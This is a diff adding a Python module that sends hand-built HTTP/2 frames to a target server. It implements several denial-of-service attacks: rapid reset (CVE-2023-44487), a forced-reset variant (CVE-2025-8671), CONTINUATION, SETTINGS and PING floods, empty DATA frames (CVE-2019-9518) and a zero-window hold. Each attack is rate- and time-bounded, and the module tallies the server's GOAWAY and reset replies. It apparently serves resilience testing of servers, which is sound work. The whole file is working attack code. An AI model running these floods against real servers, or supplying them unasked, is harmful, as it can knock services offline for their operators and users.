@@ -1,0 +1,210 @@
+"""HTTP/2 as no client speaks it: single frames over a plain socket. Each attack is bounded in time and in its rate."""
+
+from __future__ import annotations
+
+import socket
+from collections.abc import Callable
+from contextlib import suppress
+from urllib.parse import urlsplit
+
+from h2.errors import ErrorCodes
+from hpack import Encoder
+from hyperframe.frame import (
+    ContinuationFrame,
+    DataFrame,
+    Frame,
+    GoAwayFrame,
+    HeadersFrame,
+    PingFrame,
+    RstStreamFrame,
+    SettingsFrame,
+    WindowUpdateFrame,
+)
+
+from .outcome import Outcome, paced
+from .target import Target
+
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+FRAME_BYTES = 16 * 1024
+
+
+class Connection:
+    """One connection; what comes back is counted whenever something is sent."""
+
+    def __init__(self, target: Target, outcome: Outcome, settings: dict[int, int] | None = None) -> None:
+        self._outcome = outcome
+        self._encoder = Encoder()
+        self._received = b""
+        self._target = target
+        self._next_stream = 1
+        self.is_open = True
+        url = urlsplit(target.address)
+        self._socket = socket.create_connection((url.hostname, url.port), timeout=5)
+        outcome.connections += 1
+        self.send(SettingsFrame(0, settings=settings or {}), start=PREFACE)
+
+    def send(self, *frames: Frame, start: bytes = b"") -> None:
+        """Send frames, unless the other side takes no more; count what has come."""
+        try:
+            self._socket.settimeout(1)
+            self._socket.sendall(start + b"".join(frame.serialize() for frame in frames))
+            self.hear()
+        except TimeoutError:
+            self._end("not read any more")
+        except OSError:
+            self.hear()
+            self._end("connection reset")
+
+    def hear(self) -> None:
+        """Count what has come."""
+        self._socket.setblocking(False)
+        with suppress(BlockingIOError, OSError):
+            while chunk := self._socket.recv(1 << 20):
+                self._received += chunk
+            self._end("connection closed")
+        while len(self._received) >= 9:
+            frame, length = Frame.parse_frame_header(memoryview(self._received[:9]))
+            if len(self._received) < 9 + length:
+                break
+            frame.parse_body(memoryview(self._received[9 : 9 + length]))
+            self._received = self._received[9 + length :]
+            if isinstance(frame, GoAwayFrame):
+                self._outcome.answers[f"GOAWAY {ErrorCodes(frame.error_code).name}"] += 1
+                self._end("")
+            elif isinstance(frame, RstStreamFrame):
+                self._outcome.answers[f"RST_STREAM {ErrorCodes(frame.error_code).name}"] += 1
+
+    def _end(self, how: str) -> None:
+        if self.is_open and how:
+            self._outcome.answers[how] += 1
+        self.is_open = False
+        self._socket.close()
+
+    def close(self) -> None:
+        self.is_open = False
+        self._socket.close()
+
+    def request(
+        self, *, path: str | None = None, method: str = "GET", ends: bool = True, **headers: str
+    ) -> HeadersFrame:
+        """A new stream's HEADERS."""
+        named = {":method": method, ":path": path or self._target.path, ":scheme": "http", ":authority": "a", **headers}
+        frame = HeadersFrame(self._next_stream, self._encoder.encode(list(named.items())), flags=["END_HEADERS"])
+        if ends:
+            frame.flags.add("END_STREAM")
+        self._next_stream += 2
+        return frame
+
+
+def repeat(
+    target: Target, seconds: float, per_second: float, attack: Callable[[Connection], None], **settings: int
+) -> Outcome:
+    """Do it so many times a second, on a new connection whenever the last one was ended."""
+    outcome = Outcome()
+    connection = Connection(target, outcome)
+    for _ in paced(seconds, per_second):
+        if not connection.is_open:
+            connection = Connection(target, outcome)
+        attack(connection)
+        outcome.sent += 1
+    connection.hear() if connection.is_open else None
+    connection.close()
+    return outcome
+
+
+def rapid_reset(target: Target, seconds: float) -> Outcome:
+    """Requests that are taken back at once (CVE-2023-44487)."""
+
+    def attack(connection: Connection) -> None:
+        request = connection.request()
+        connection.send(request, RstStreamFrame(request.stream_id, error_code=ErrorCodes.CANCEL))
+
+    return repeat(target, seconds, 2000, attack)
+
+
+def made_you_reset(target: Target, seconds: float) -> Outcome:
+    """Requests that the server has to take back, for an error of the client's (CVE-2025-8671)."""
+
+    def attack(connection: Connection) -> None:
+        request = connection.request()
+        window = WindowUpdateFrame(request.stream_id, window_increment=1)
+        no_window = window.serialize()[:-4] + bytes(4)  # an increment of 0 is an error of the stream
+        connection.send(request, start=b"")
+        if connection.is_open:
+            connection.send(start=no_window)
+
+    return repeat(target, seconds, 1000, attack)
+
+
+def data_after_end(target: Target, seconds: float) -> Outcome:
+    """The same by a body for a request that has none."""
+
+    def attack(connection: Connection) -> None:
+        request = connection.request()
+        connection.send(request, DataFrame(request.stream_id, b"x"))
+
+    return repeat(target, seconds, 1000, attack)
+
+
+def continuation_flood(target: Target, seconds: float) -> Outcome:
+    """Headers without an end."""
+    field = Encoder().encode([(f"x-{'a' * 100}", "b" * 100)], huffman=False)
+    block = field * (FRAME_BYTES // len(field))
+    open_streams: dict[int, int] = {}
+
+    def attack(connection: Connection) -> None:
+        if id(connection) not in open_streams:
+            open_streams.clear()
+            request = connection.request()
+            request.flags.discard("END_HEADERS")
+            open_streams[id(connection)] = request.stream_id
+            connection.send(request)
+        if connection.is_open:
+            connection.send(ContinuationFrame(open_streams[id(connection)], block))
+
+    return repeat(target, seconds, 500, attack)
+
+
+def settings_flood(target: Target, seconds: float) -> Outcome:
+    """Settings, each of which has to be acknowledged."""
+    flood = [SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65_535}) for _ in range(10)]
+    return repeat(target, seconds, 500, lambda connection: connection.send(*flood))
+
+
+def ping_flood(target: Target, seconds: float) -> Outcome:
+    """Pings, each of which has to be answered."""
+    flood = [PingFrame(0, b"01234567") for _ in range(10)]
+    return repeat(target, seconds, 500, lambda connection: connection.send(*flood))
+
+
+def empty_frames(target: Target, seconds: float) -> Outcome:
+    """A body of frames without a byte (CVE-2019-9518)."""
+    streams: dict[int, int] = {}
+
+    def attack(connection: Connection) -> None:
+        if id(connection) not in streams:
+            streams.clear()
+            request = connection.request(method="POST", path=target.send_path, ends=False, **target.push_headers(1000))
+            streams[id(connection)] = request.stream_id
+            connection.send(request)
+        if connection.is_open:
+            connection.send(*[DataFrame(streams[id(connection)], b"") for _ in range(10)])
+
+    return repeat(target, seconds, 500, attack)
+
+
+def zero_window(target: Target, seconds: float) -> Outcome:
+    """Large replies that are asked for and not taken: 4 connections of 100 streams."""
+    outcome = Outcome()
+    settings = {SettingsFrame.INITIAL_WINDOW_SIZE: 0}
+    connections = [Connection(target, outcome, settings) for _ in range(4)]
+    for number in paced(seconds, 100):
+        connection = connections[number % 4]
+        if connection.is_open and number < 400:
+            connection.send(connection.request(path=target.large_path))
+            outcome.sent += 1
+        elif connection.is_open:
+            connection.hear()
+    for connection in connections:
+        connection.close()
+    return outcome
